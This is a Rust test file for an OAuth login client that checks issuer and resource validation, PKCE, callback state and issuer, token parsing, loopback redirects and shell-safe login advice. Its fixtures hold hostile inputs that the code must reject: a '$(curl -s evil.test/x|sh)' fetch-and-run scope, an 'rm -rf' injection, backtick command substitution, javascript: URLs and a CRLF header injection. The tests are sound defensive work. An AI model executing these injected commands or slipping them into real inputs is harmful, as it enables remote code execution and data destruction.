//! Whom a login believes, and what it does not follow. Row 112 of the attacks.

use super::*;

const RANDOM: &str = "7Fjfp0ZBr1KtDRbnfVdmIw";

fn url(text: &str) -> Url {
    Url::parse(text).unwrap()
}

fn metadata() -> Value {
    json!({
        "issuer": "https://id.test", "authorization_endpoint": "https://id.test/authorize",
        "token_endpoint": "https://id.test/token", "code_challenge_methods_supported": ["plain", "S256"],
        "authorization_response_iss_parameter_supported": true,
    })
}

fn issuer() -> Issuer {
    Issuer::read(&metadata(), "https://id.test").unwrap()
}

fn attempt() -> Attempt {
    Attempt {
        state: "st".to_owned(),
        // The example of RFC 7636.
        verifier: "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk".to_owned(),
        redirect: "http://127.0.0.1:7/callback".to_owned(),
        scope: "a b".to_owned(),
        resource: "https://mail.test/mcp".to_owned(),
    }
}

#[test]
fn a_challenge_is_read_by_its_parameters() {
    let read = Challenge::read(
        "Bearer error=\"insufficient_scope\", scope=\"a b\", resource_metadata=\"https://m.test/x\"",
    );
    assert_eq!(read.metadata.as_deref(), Some("https://m.test/x"));
    assert_eq!(read.scope.as_deref(), Some("a b"));
    assert!(read.too_little);
    let plain = Challenge::read("Bearer scope=a, error=invalid_token");
    assert_eq!(
        (plain.scope.as_deref(), plain.too_little),
        (Some("a"), false)
    );
    let none = Challenge::read("Bearer realm=\"scope\", other_scope=\"x\"");
    assert_eq!(none, Challenge::default());
    assert_eq!(Challenge::read("Bearer scope=\"a\u{7f}b\"").scope, None);
}

#[test]
fn only_https_and_this_machine_are_asked() {
    for (text, is_good) in [
        ("https://id.test/a", true),
        ("http://localhost:7/a", true),
        ("http://127.0.0.1:7/a", true),
        ("http://[::1]:7/a", true),
        ("http://id.test/a", false),
        ("http://localhost.evil.test/", false),
        ("ftp://id.test/", false),
        ("https://user@id.test/", false),
        ("https://id.test/#x", false),
        ("javascript:alert(1)", false),
        ("nothing", false),
    ] {
        assert_eq!(address("it", text).is_ok(), is_good, "{text}");
    }
}

#[test]
fn a_server_says_who_it_is_at_its_own_origin() {
    let server = url("https://mail.test/mcp");
    let places = |metadata: Option<&str>| {
        let challenge = Challenge {
            metadata: metadata.map(str::to_owned),
            ..Challenge::default()
        };
        let places = resource_places(&server, &challenge)?;
        Ok::<_, Error>(places.iter().map(Url::to_string).collect::<Vec<_>>())
    };
    assert_eq!(
        places(None).unwrap(),
        [
            "https://mail.test/.well-known/oauth-protected-resource/mcp",
            "https://mail.test/.well-known/oauth-protected-resource"
        ]
    );
    assert_eq!(
        places(Some("https://mail.test/x")).unwrap(),
        ["https://mail.test/x"]
    );
    assert!(places(Some("https://evil.test/x")).is_err());
    assert!(places(Some("http://mail.test/x")).is_err());
}

#[test]
fn an_issuer_says_who_it_is_where_the_standards_say() {
    let places = issuer_places(&url("https://id.test/a"));
    let places: Vec<String> = places.iter().map(Url::to_string).collect();
    assert_eq!(
        places,
        [
            "https://id.test/.well-known/oauth-authorization-server/a",
            "https://id.test/.well-known/openid-configuration/a",
            "https://id.test/a/.well-known/openid-configuration",
        ]
    );
    assert_eq!(issuer_places(&url("https://id.test")).len(), 2);
}

#[test]
fn a_token_is_for_the_server_that_is_asked() {
    let server = url("https://mail.test/mcp");
    for (resource, is_good) in [
        ("https://mail.test/mcp", true),
        ("https://mail.test", true),
        ("https://mail.test/", true),
        ("https://mail.test/mc", false),
        ("https://mail.test/other", false),
        ("https://mail.test:444/mcp", false),
        ("http://mail.test/mcp", false),
        ("https://evil.test/mcp", false),
        ("nothing", false),
    ] {
        let document = json!({"resource": resource, "authorization_servers": ["https://id.test"]});
        assert_eq!(
            Resource::read(&document, &server, &Terms::default()).is_ok(),
            is_good,
            "{resource}"
        );
    }
    let plain =
        json!({"resource": "https://mail.test", "authorization_servers": ["http://id.test"]});
    assert!(Resource::read(&plain, &server, &Terms::default()).is_err());
}

#[test]
fn an_issuer_is_the_one_that_was_named_and_knows_pkce() {
    assert!(issuer().says_who);
    assert!(Issuer::read(&metadata(), "https://id.test/").is_err());
    for (key, value) in [
        ("issuer", json!("https://evil.test")),
        ("code_challenge_methods_supported", json!(["plain"])),
        ("code_challenge_methods_supported", Value::Null),
        ("token_endpoint", json!("http://id.test/token")),
        ("authorization_endpoint", json!("javascript:alert(1)")),
        ("registration_endpoint", json!("http://evil.test/register")),
    ] {
        let mut document = metadata();
        document[key] = value.clone();
        let read = Issuer::read(&document, "https://id.test");
        assert!(read.is_err(), "{key}: {value}");
    }
}

#[test]
fn an_answer_counts_with_its_state_and_from_its_issuer() {
    let (attempt, issuer) = (attempt(), issuer());
    let code = |target: &str| attempt.code(&issuer, target);
    let good = "/callback?code=c&state=st&iss=https%3A%2F%2Fid.test";
    assert_eq!(code(good).unwrap().as_deref(), Some("c"));
    for nobody in [
        "/callback?code=c&iss=https%3A%2F%2Fid.test",
        "/callback?code=c&state=other&iss=https%3A%2F%2Fid.test",
        "/callback?code=c&state=st&state=st&iss=https%3A%2F%2Fid.test",
        "/favicon.ico",
    ] {
        assert_eq!(code(nobody).unwrap(), None, "{nobody}");
    }
    for wrong in [
        "/callback?code=c&state=st",
        "/callback?code=c&state=st&iss=https%3A%2F%2Fid.test%2F",
        "/callback?code=c&state=st&iss=https%3A%2F%2Fevil.test",
        "/callback?state=st&iss=https%3A%2F%2Fid.test",
        "/callback?error=access_denied&state=st&iss=https%3A%2F%2Fid.test",
    ] {
        assert!(code(wrong).is_err(), "{wrong}");
    }
    let silent = Issuer {
        says_who: false,
        ..issuer.clone()
    };
    assert!(
        attempt
            .code(&silent, "/callback?code=c&state=st")
            .unwrap()
            .is_some()
    );
    let other = "/callback?code=c&state=st&iss=https%3A%2F%2Fevil.test";
    assert!(attempt.code(&silent, other).is_err());
}

#[test]
fn a_person_is_sent_with_a_challenge_and_what_the_token_is_for() {
    let client = Client {
        id: "me".to_owned(),
        secret: None,
        way: Showing::None,
    };
    let place = attempt().place(&issuer(), &client);
    let value = |key: &str| {
        place
            .query_pairs()
            .find(|(name, _)| name == key)
            .unwrap()
            .1
            .into_owned()
    };
    assert_eq!(
        value("code_challenge"),
        "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"
    );
    assert_eq!(value("code_challenge_method"), "S256");
    assert_eq!(value("resource"), "https://mail.test/mcp");
    assert_eq!(value("scope"), "a b");
    assert!(!place.as_str().contains("dBjftJeZ4CVP"));
}

#[test]
fn who_asks_is_shown_as_the_issuer_wants_it() {
    let client = |way| Client {
        id: "a b".to_owned(),
        secret: Some("s:3".to_owned()),
        way,
    };
    let sent = |way| {
        let (headers, body) = wish(&client(way), &[("grant_type", "x".to_owned())]);
        let header = headers
            .into_iter()
            .find(|(name, _)| name == "authorization");
        (
            header.map(|(_, value)| value),
            String::from_utf8(body).unwrap(),
        )
    };
    let (header, body) = sent(Showing::ClientSecretBasic);
    assert_eq!(header.unwrap(), format!("Basic {}", base64(b"a+b:s%3A3")));
    assert_eq!(body, "grant_type=x");
    let (header, body) = sent(Showing::ClientSecretPost);
    assert_eq!(
        (header, body.as_str()),
        (None, "grant_type=x&client_id=a+b&client_secret=s%3A3")
    );
    let (header, body) = sent(Showing::None);
    assert_eq!(
        (header, body.as_str()),
        (None, "grant_type=x&client_id=a+b")
    );
    let registered = |answer: Value, ways: &[Showing]| {
        let issuer = Issuer {
            ways: ways.to_vec(),
            ..issuer()
        };
        Client::read(&answer, &issuer).map(|client| (client.way, client.secret.is_some()))
    };
    let all = [Showing::ClientSecretBasic, Showing::None];
    let with = json!({"client_id": "a", "client_secret": RANDOM});
    assert_eq!(
        registered(with.clone(), &all).unwrap(),
        (Showing::ClientSecretBasic, true)
    );
    assert_eq!(
        registered(with, &[Showing::None]).unwrap(),
        (Showing::None, false)
    );
    assert_eq!(
        registered(json!({"client_id": "a"}), &all).unwrap(),
        (Showing::None, false)
    );
    assert!(registered(json!({}), &all).is_err());
    // What the issuer says of this client comes before what it says of all.
    let said = |way: &str, secret: Value| {
        let answer =
            json!({"client_id": "a", "client_secret": secret, "token_endpoint_auth_method": way});
        registered(answer, &all).unwrap()
    };
    let post = said("client_secret_post", json!(RANDOM));
    assert_eq!(post, (Showing::ClientSecretPost, true));
    assert_eq!(said("none", json!(RANDOM)), (Showing::None, false));
    assert_eq!(said("none", Value::Null), (Showing::None, false));
    assert_eq!(
        said("client_secret_post", Value::Null),
        (Showing::None, false)
    );
}

#[test]
fn a_token_is_a_bearers() {
    let token = |kind: &str| {
        Token::read(&json!({"access_token": RANDOM, "token_type": kind, "expires_in": 60}))
    };
    assert_eq!(token("bearer").unwrap().good_ms, Some(60_000));
    assert!(token("DPoP").is_err());
    assert!(Token::read(&json!({"token_type": "Bearer"})).is_err());
}

/// What it is good for is kept and shown in the clear, and what kind it is said of one that is refused.
#[test]
fn a_token_stands_in_nothing_that_is_shown() {
    let token = |kind: &str, scope: &str| {
        let said = json!({"access_token": RANDOM, "refresh_token": "again-and-again", "token_type": kind, "scope": scope});
        Token::read(&said)
    };
    let scope = |scope: &str| token("Bearer", scope).unwrap().scope;
    assert_eq!(scope("a b").as_deref(), Some("a b"));
    for held in [RANDOM, "a again-and-again", "a [REDACTED]"] {
        assert_eq!(scope(held), None, "{held}");
    }
    assert!(!token(RANDOM, "a").err().unwrap().message().contains(RANDOM));
    assert!(token("MAC", "a").err().unwrap().message().contains("MAC"));
    let challenge = Challenge::read("Bearer scope=\"a [REDACTED]\", error=\"insufficient_scope\"");
    assert_eq!((challenge.scope, challenge.too_little), (None, true));
}

/// An issuer may give what it likes: what is not random is only not kept out of what is said.
#[test]
fn a_token_is_what_stands_in_a_header() {
    let token =
        |access: &str| Token::read(&json!({"access_token": access, "token_type": "Bearer"}));
    assert!(token(RANDOM).is_ok() && is_random(RANDOM));
    for word in ["api.anthropic.com", "test-token", "id"] {
        assert_eq!(token(word).unwrap().access, word);
        assert!(!is_random(word));
    }
    assert!(token(&format!("{RANDOM}\r\nx: y")).is_err());
}

/// What a server wants stands in a command that a person copies only where a shell reads nothing in it.
#[test]
fn advice_is_safe_to_copy() {
    assert_eq!(
        advice("wiki", "pages:write https://a.test/x_y.z-1"),
        "lazaret servers login wiki --scope 'pages:write https://a.test/x_y.z-1'"
    );
    let long = "a".repeat(201);
    for scope in [
        "$(curl -s evil.test/x|sh)",
        "a'; rm -rf x; '",
        "`id`",
        "a\\nb",
        "a&b",
        "--help",
        "",
        &long,
    ] {
        assert_eq!(
            advice("wiki", scope),
            "lazaret servers login wiki",
            "{scope}"
        );
    }
}

#[test]
fn what_is_asked_for_is_what_the_server_says_and_nothing_that_nobody_named() {
    let resource = |scopes: Option<&str>| Resource {
        resource: String::new(),
        issuer: String::new(),
        scopes: scopes.map(str::to_owned),
    };
    let challenge = |scope: Option<&str>| Challenge {
        scope: scope.map(str::to_owned),
        ..Challenge::default()
    };
    let offline = Issuer {
        has_offline: true,
        ..issuer()
    };
    for (said, there, issuer, before, expected) in [
        (Some("a"), Some("x y"), issuer(), "", "a"),
        (None, Some("x y"), issuer(), "", "x y"),
        (None, None, issuer(), "", ""),
        (Some("b"), None, issuer(), "a", "a b"),
        (Some("a"), None, offline, "", "a offline_access"),
    ] {
        let wanted = (&challenge(said), &resource(there), &issuer);
        assert_eq!(scope(wanted, ("", before)), expected);
    }
}

#[test]
fn whoever_logs_in_comes_back_to_this_machine_alone() {
    for (text, fits) in [
        ("http://127.0.0.1:7/callback", true),
        ("http://127.8.9.1:7/callback", true),
        ("http://[::1]:7/callback", true),
        ("https://127.0.0.1:7/callback", false),
        ("http://localhost:7/callback", false),
        ("http://10.0.0.1:7/callback", false),
        ("http://[2001:db8::1]:7/callback", false),
        ("http://id.test/callback", false),
        ("http://me@127.0.0.1:7/callback", false),
        ("http://:sesame@127.0.0.1:7/callback", false),
        ("http://127.0.0.1:7/callback#code", false),
        ("app:callback", false),
        ("callback", false),
    ] {
        assert_eq!(comes_back(text).is_ok(), fits, "{text}");
    }
}
